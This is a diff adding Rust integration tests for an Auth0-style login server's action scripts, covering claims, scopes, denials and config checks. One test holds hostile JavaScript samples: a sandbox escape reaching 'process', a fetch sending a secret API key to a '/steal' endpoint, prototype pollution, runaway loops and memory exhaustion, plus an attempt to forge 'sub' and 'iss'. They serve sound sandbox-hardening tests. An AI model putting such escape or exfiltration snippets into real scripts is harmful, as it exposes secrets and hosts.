@@ -1,0 +1,317 @@
+//! Actions through real logins: Auth0-style post-login and credentials-exchange scripts add
+//! claims, scopes and metadata, deny access, and hostile scripts end only their own run.
+
+use std::io::Read;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use gatehouse::types::UserId;
+
+use crate::harness::*;
+
+/// Write `source` to a file of `dir` and return its path.
+fn script(dir: &TempDir, name: &str, source: &str) -> PathBuf {
+    let p = dir.0.join(name);
+    std::fs::write(&p, source).unwrap();
+    p
+}
+
+fn with_actions(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> String {
+    let mut config = crate::harness::config("ES256");
+    config.push_str("\n[actions]\ncpu_ms = 100\nmemory_limit_mb = 16\n");
+    for (name, path) in post_login {
+        config.push_str(&format!(
+            "[[actions.post_login]]\nname = \"{name}\"\nfile = \"{}\"\nsecrets = {{ API_KEY = \"action-secret-value-42\" }}\n",
+            path.display()
+        ));
+    }
+    for (name, path) in credentials_exchange {
+        config
+            .push_str(&format!("[[actions.credentials_exchange]]\nname = \"{name}\"\nfile = \"{}\"\n", path.display()));
+    }
+    config
+}
+
+async fn app_with(post_login: &[(&str, &Path)], credentials_exchange: &[(&str, &Path)]) -> TestApp {
+    TestApp::with(Options { config: Some(with_actions(post_login, credentials_exchange)), ..Default::default() }).await
+}
+
+fn beta() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/actions/beta-tester.js")
+}
+
+/// Give Ada the "beta" group before she signs in.
+async fn make_ada_a_beta_tester(app: &TestApp) {
+    tokens_for_ada(app).await;
+    let id = UserId::parse("auth0|ada").unwrap();
+    let mut ada = app.core.store.users.get(&id).await.unwrap().unwrap();
+    ada.app_metadata.insert("groups".into(), serde_json::json!(["beta"]));
+    app.core.store.users.put(&ada).await.unwrap();
+}
+
+async fn login_as(app: &TestApp, b: &reqwest::Client, client: &str, user: &str, password: &str) -> String {
+    let (verifier, challenge) = pkce();
+    let redirect = if client == "web" { WEB_REDIRECT } else { SPA_REDIRECT };
+    let extra: &[(&str, &str)] = if client == "spa" { &[("connection", "admins")] } else { &[] };
+    let done = login(app, b, &authorize_url(app, client, redirect, &challenge, extra), user, password).await;
+    let code = param(&done, "code").unwrap_or_else(|| panic!("no code: {done}"));
+    let mut form = vec![
+        ("grant_type", "authorization_code"),
+        ("code", code.as_str()),
+        ("redirect_uri", redirect),
+        ("code_verifier", verifier.as_str()),
+    ];
+    let req = http().post(app.url("/token"));
+    let req = if client == "web" {
+        req.basic_auth("web", Some(WEB_SECRET))
+    } else {
+        form.push(("client_id", client));
+        req
+    };
+    let t: serde_json::Value = req.form(&form).send().await.unwrap().json().await.unwrap();
+    t["id_token"].as_str().map(str::to_owned).unwrap_or_else(|| panic!("no tokens: {t}"))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_beta_tester_action_runs_through_openid_client() {
+    let app = app_with(&[("beta", &beta())], &[]).await;
+    make_ada_a_beta_tester(&app).await;
+    // The openid-client relying party does the whole flow and validates the ID token.
+    let peer = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/peers/openid-client");
+    assert!(peer.join("node_modules/openid-client").is_dir(), "run ./scripts/setup");
+    let out = std::process::Command::new("node")
+        .arg(peer.join("rp.mjs"))
+        .env("ISSUER", &app.issuer)
+        .env("CLIENT_ID", "web")
+        .env("CLIENT_SECRET", WEB_SECRET)
+        .env("REDIRECT_URI", WEB_REDIRECT)
+        .env("USERNAME", "ada@example.com")
+        .env("PASSWORD", PASSWORD)
+        .env("ID_TOKEN_ALG", "ES256")
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{}\n{stdout}", String::from_utf8_lossy(&out.stderr));
+    let v: serde_json::Value = serde_json::from_str(stdout.lines().last().unwrap()).unwrap();
+    assert_eq!(v["id_token_claims"]["isBetaTester"], true, "Ada is in the beta group");
+
+    // Root is not: no claim, no scope.
+    let id = login_as(&app, &browser(), "spa", "root@example.com", OTHER_PASSWORD).await;
+    assert!(claims(&id).get("isBetaTester").is_none());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn claims_scopes_metadata_and_machine_tokens() {
+    let dir = TempDir::new();
+    let post = script(
+        &dir,
+        "post.js",
+        r#"exports.onExecutePostLogin = async (event, api) => {
+             api.accessToken.setCustomClaim("https://app.test/tier", "gold");
+             api.accessToken.addScope("read:beta");
+             api.accessToken.removeScope("offline_access");
+             api.idToken.setCustomClaim("logins_seen", event.user.app_metadata.logins_seen || 0);
+             api.user.setAppMetadata("logins_seen", (event.user.app_metadata.logins_seen || 0) + 1);
+             api.idToken.setCustomClaim("sub", "attacker");
+             api.idToken.setCustomClaim("iss", "https://evil.test");
+           };"#,
+    );
+    let m2m = script(
+        &dir,
+        "m2m.js",
+        r#"exports.onExecuteCredentialsExchange = async (event, api) => {
+             api.accessToken.setCustomClaim("https://api.test/tenant", event.client.client_id + ":acme");
+           };"#,
+    );
+    let app = app_with(&[("post", &post)], &[("m2m", &m2m)]).await;
+    let t = tokens_for_ada(&app).await;
+    let at = claims(t["access_token"].as_str().unwrap());
+    assert_eq!(at["https://app.test/tier"], "gold");
+    assert_eq!(at["scope"], "openid profile email read:beta", "a scope added, one removed");
+    let id = claims(t["id_token"].as_str().unwrap());
+    assert_eq!(id["sub"], "auth0|ada", "reserved claims cannot be overwritten");
+    assert_eq!(id["iss"], app.issuer);
+    assert_eq!(id["logins_seen"], 0);
+    // app_metadata written by the action is there at the next login.
+    let again = tokens_for_ada(&app).await;
+    assert_eq!(claims(again["id_token"].as_str().unwrap())["logins_seen"], 1);
+    let ada = app.core.store.users.get(&UserId::parse("auth0|ada").unwrap()).await.unwrap().unwrap();
+    assert_eq!(ada.app_metadata["logins_seen"], 2);
+    // The claims ride along on refresh.
+    let refreshed: serde_json::Value = http()
+        .post(app.url("/token"))
+        .basic_auth("web", Some(WEB_SECRET))
+        .form(&[("grant_type", "refresh_token"), ("refresh_token", t["refresh_token"].as_str().unwrap())])
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(claims(refreshed["access_token"].as_str().unwrap())["https://app.test/tier"], "gold");
+
+    let cc: serde_json::Value = http()
+        .post(app.url("/token"))
+        .form(&[("grant_type", "client_credentials"), ("client_id", "m2m"), ("client_secret", M2M_SECRET)])
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(claims(cc["access_token"].as_str().unwrap())["https://api.test/tenant"], "m2m:acme");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_denial_reaches_the_client_and_opens_no_session() {
+    let dir = TempDir::new();
+    let deny = script(
+        &dir,
+        "deny.js",
+        r#"exports.onExecutePostLogin = async (event, api) => {
+             if (event.user.email === "root@example.com") api.access.deny("root may not use this app");
+           };"#,
+    );
+    let app = app_with(&[("deny", &deny)], &[]).await;
+    let b = browser();
+    let (_, challenge) = pkce();
+    let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
+    let r = b.get(&url).send().await.unwrap();
+    let hosted = location(&r);
+    let page = b.get(app.url(&hosted)).send().await.unwrap().text().await.unwrap();
+    let r = b
+        .post(app.url(&format!("{hosted}/credentials")))
+        .form(&[
+            ("csrf", hidden(&page, "csrf").as_str()),
+            ("username", "root@example.com"),
+            ("password", OTHER_PASSWORD),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert!(
+        r.headers().get_all("set-cookie").iter().all(|c| !c.to_str().unwrap().starts_with("gh_session=")),
+        "no session"
+    );
+    let to = location(&r);
+    assert!(to.starts_with(SPA_REDIRECT), "{to}");
+    assert_eq!(param(&to, "error").as_deref(), Some("access_denied"));
+    assert_eq!(param(&to, "error_description").as_deref(), Some("root may not use this app"));
+    assert_eq!(param(&to, "state").as_deref(), Some("st-123"));
+    assert!(param(&to, "code").is_none());
+    // prompt=none afterwards: no session was opened.
+    let r = b.get(authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("prompt", "none")])).send().await.unwrap();
+    assert_eq!(param(&location(&r), "error").as_deref(), Some("login_required"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_actions_end_only_their_own_run() {
+    // The loopback listener an action tries to reach: it must see no request.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let dir = TempDir::new();
+    // The hostile behaviour is chosen by the password-less field the test controls: the
+    // login_hint is not visible to actions, so the user's email picks it (root is hostile).
+    let hostile = |body: &str| {
+        format!(
+            r#"exports.onExecutePostLogin = async (event, api) => {{
+                 if (event.user.email === "root@example.com") {{ {body} }}
+                 api.idToken.setCustomClaim("ok", true);
+               }};"#
+        )
+    };
+    let cases = [
+        ("loop", "while (true) {}".to_owned()),
+        ("await-loop", "await null; while (true) {}".to_owned()),
+        ("memory", "const a = []; while (true) a.push('x'.repeat(1 << 20));".to_owned()),
+        ("recursion", "const f = (n) => f(n + 1) + 1; f(0);".to_owned()),
+        ("escape", "this.constructor.constructor('return process')().exit(1);".to_owned()),
+        ("fetch", format!("await fetch('http://127.0.0.1:{port}/steal?k=' + event.secrets.API_KEY);")),
+        ("pollute", "Object.prototype.isAdmin = true; throw new Error('leaked ' + event.secrets.API_KEY);".to_owned()),
+    ];
+    for (name, body) in cases {
+        let path = script(&dir, &format!("{name}.js"), &hostile(&body));
+        let app = app_with(&[(name, &path)], &[]).await;
+        let b = browser();
+        let (_, challenge) = pkce();
+        let url = authorize_url(&app, "spa", SPA_REDIRECT, &challenge, &[("connection", "admins")]);
+        let hosted = location(&b.get(&url).send().await.unwrap());
+        let page = b.get(app.url(&hosted)).send().await.unwrap().text().await.unwrap();
+        let started = std::time::Instant::now();
+        let r = b
+            .post(app.url(&format!("{hosted}/credentials")))
+            .form(&[
+                ("csrf", hidden(&page, "csrf").as_str()),
+                ("username", "root@example.com"),
+                ("password", OTHER_PASSWORD),
+            ])
+            .send()
+            .await
+            .unwrap();
+        assert!(started.elapsed() < Duration::from_secs(3), "{name}: bounded by the sandbox limits");
+        assert_eq!(r.status(), 500, "{name}: the login is refused");
+        assert!(r.headers().get("location").is_none(), "{name}: no code");
+        let body = r.text().await.unwrap();
+        assert!(body.contains("Sign-in could not be completed") && body.contains("correlation-id"), "{name}: {body}");
+        assert!(!body.contains("action-secret-value-42"), "{name}: the secret is not shown");
+        // The next, benign login on the same node succeeds, and sees no pollution.
+        let id = login_as(&app, &browser(), "web", "ada@example.com", PASSWORD).await;
+        let c = claims(&id);
+        assert_eq!(c["ok"], true, "{name}: the node still serves logins");
+        assert!(c.get("isAdmin").is_none());
+    }
+    let mut buf = [0u8; 1];
+    assert!(listener.accept().map(|(mut s, _)| s.read(&mut buf)).is_err(), "fetch reached the loopback listener");
+}
+
+#[test]
+fn the_action_test_runner_prints_what_an_action_asks_for() {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let out = std::process::Command::new(BIN)
+        .args(["actions", "test", "fixtures/actions/beta-tester.js", "--event", "fixtures/actions/event.json"])
+        .current_dir(root)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["id_token_claims"]["isBetaTester"], true);
+    assert_eq!(v["added_scopes"], serde_json::json!(["read:beta"]));
+    assert_eq!(v["denied"], serde_json::Value::Null);
+
+    let dir = TempDir::new();
+    let broken = script(&dir, "broken.js", "exports.onExecutePostLogin = async (event, api) => {");
+    let out = std::process::Command::new(BIN)
+        .arg("actions")
+        .arg("test")
+        .arg(&broken)
+        .args(["--event", root.join("fixtures/actions/event.json").to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("does not compile"));
+}
+
+#[test]
+fn check_config_reports_action_syntax_errors() {
+    let dir = TempDir::new();
+    let broken =
+        script(&dir, "broken.js", "exports.onExecutePostLogin = (event, api) => { api.idToken.setCustomClaim(; };");
+    let missing = script(&dir, "missing.js", "exports.somethingElse = () => {};");
+    let config = dir.0.join("gatehouse.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[[actions.post_login]]\nname = \"broken\"\nfile = \"{}\"\n[[actions.post_login]]\nname = \"missing\"\nfile = \"missing.js\"\n[[actions.post_login]]\nname = \"absent\"\nfile = \"nope.js\"\n",
+            broken.display()
+        ),
+    )
+    .unwrap();
+    let _ = missing;
+    let out = std::process::Command::new(BIN).arg("check-config").arg(&config).output().unwrap();
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("actions.post_login[0].file") && err.contains("does not compile"), "{err}");
+    assert!(err.contains("actions.post_login[1].file") && err.contains("does not export onExecutePostLogin"), "{err}");
+    assert!(err.contains("actions.post_login[2].file") && err.contains("cannot read"), "{err}");
+}
